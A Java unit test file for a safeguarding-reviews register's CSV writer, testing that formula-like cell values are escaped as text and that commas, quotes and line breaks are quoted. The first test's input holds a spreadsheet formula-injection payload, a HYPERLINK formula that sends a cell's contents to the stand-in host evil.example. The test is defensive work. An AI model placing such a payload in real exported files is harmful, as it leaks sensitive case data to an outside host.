package uk.org.safeguarding.reviews.register;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;

/** What the register's and the annual report's CSV files hold, as a spreadsheet opens them. */
class CsvTest {

  @Test
  void textASpreadsheetWouldRunAsAFormulaOpensAsText() {
    String csv = new Csv().row("=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open the case file\")", "+1", "-1+2", "@SUM(A1)",
        "\tTabbed", "Child G", "2 - 1", -3, 12, null).toString();
    assertThat(csv).isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Open the case file\"\")\",'+1,'-1+2,'@SUM(A1),"
        + "'\tTabbed,Child G,2 - 1,-3,12,\r\n");
    assertThat(Csv.parse(csv).get(0).fields()).as("read back, as text")
        .startsWith("'=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open the case file\")", "'+1", "'-1+2", "'@SUM(A1)");
  }

  @Test
  void fieldsWithCommasQuotesAndLineBreaksAreQuoted() {
    String csv = new Csv().row(List.of("a,b", "say \"hello\"", "two\nlines", "plain")).toString();
    assertThat(csv).isEqualTo("\"a,b\",\"say \"\"hello\"\"\",\"two\nlines\",plain\r\n");
    assertThat(Csv.parse(csv).get(0).fields()).containsExactly("a,b", "say \"hello\"", "two\nlines", "plain");
  }
}
